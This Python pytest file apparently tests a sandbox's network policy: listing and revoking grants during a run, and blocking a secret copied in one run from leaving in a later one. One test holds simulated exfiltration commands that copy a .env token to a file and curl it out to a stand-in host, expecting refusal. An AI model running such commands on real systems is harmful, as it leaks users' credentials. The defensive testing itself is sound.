"""Over the network: a grant is listed and changed, and a secret that one run copied does not leave by another."""

from __future__ import annotations

import glob
import json
import os
import subprocess
import time
from collections.abc import Iterator

import pytest
from tests.fakes.internet import World, clients, fake_internet, why_not
from tests.fakes.internet.standing import Standing, interpreter_for

SECRET = "tok-91f2c7d0a4b8"
POLICY = {"hosts": [{"host": "docs.test"}, {"host": "open.test", "methods": ["*"]}]}


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    if reason := why_not() or clients.missing("curl"):
        pytest.skip(reason)
    with fake_internet() as made:
        yield made


@pytest.fixture
def standing(world: World) -> Iterator[Standing]:
    made = Standing(world, os.geteuid(), interpreter_for(os.geteuid()))
    yield made
    made.close()


def curl(data: str, url: str = "https://api.test/x") -> str:
    return f"curl -s -o /dev/null -w '%{{http_code}}\\n' -d {data} {url}"


def test_a_secret_that_an_earlier_run_copied_does_not_leave_by_a_later_one(standing: Standing) -> None:
    standing.put(".env", f"API_TOKEN={SECRET}\n")
    done = standing.sh("cat .env > notes.txt; echo nothing > plain.txt", POLICY)
    assert done.returncode == 0, done.stderr
    script = f"cat notes.txt plain.txt >/dev/null; {curl('@plain.txt', 'https://api.test/1')}"
    network = {"hosts": [{"host": "api.test", "methods": ["*"]}]}
    done = standing.sh(f"{script}; {curl('@notes.txt')}; {curl(f'see={SECRET}')}", network)
    assert done.stdout.decode().split() == ["200", "403", "403"]


def test_a_grant_is_listed_and_can_be_taken_back_while_the_command_runs(standing: Standing) -> None:
    answers = os.path.join(standing.base, "answers.yaml")
    with open(answers, "w", encoding="utf-8") as file:
        file.write('- {match: "https://api.test/**", answer: release}\n')
    standing.script(f"{curl('a')}; {curl('b')}; touch asked; read go; {curl('c')}")
    words = (
        "run",
        "--policy",
        standing.policy(POLICY),
        "--oracle",
        f"answers:{answers}",
        "--",
        "sh",
        "steps.sh",
    )
    run = subprocess.Popen(
        standing.words(*words),
        env=standing.environment(),
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
    )
    try:
        upper = f"{standing.base}/state/runs/*/stage/0/upper/asked"
        deadline = time.monotonic() + 60
        while not glob.glob(upper) and time.monotonic() < deadline:
            time.sleep(0.02)
        told = json.loads(standing("grants", "last", "--json").stdout)["grants"]
        assert [(one["grant"], one["role"], one["destination"]) for one in told] == [
            ("g1", "host", "api.test"),
            ("g2", "url", "api.test"),
        ]
        assert standing("grants", "last", "--narrow", "g2", "/y/").returncode == 2
        assert standing("grants", "last", "--widen", "g2", "/").returncode == 0
        assert standing("grants", "last", "--revoke", "g2").returncode == 0
        out, _ = run.communicate(b"on\n", timeout=60)
    finally:
        run.kill()
        run.communicate()
    assert out.split() == [b"200", b"200", b"200"]  # asked again, and answered as before
    asked = json.loads(standing("grants", "last", "--json").stdout)["grants"]
    assert [(one["grant"], one["revoked"]) for one in asked] == [("g1", False), ("g2", True), ("g3", False)]
    verified = standing("verify", "last", "--json", "--replay")
    assert json.loads(verified.stdout)["verdict"] == "complete"
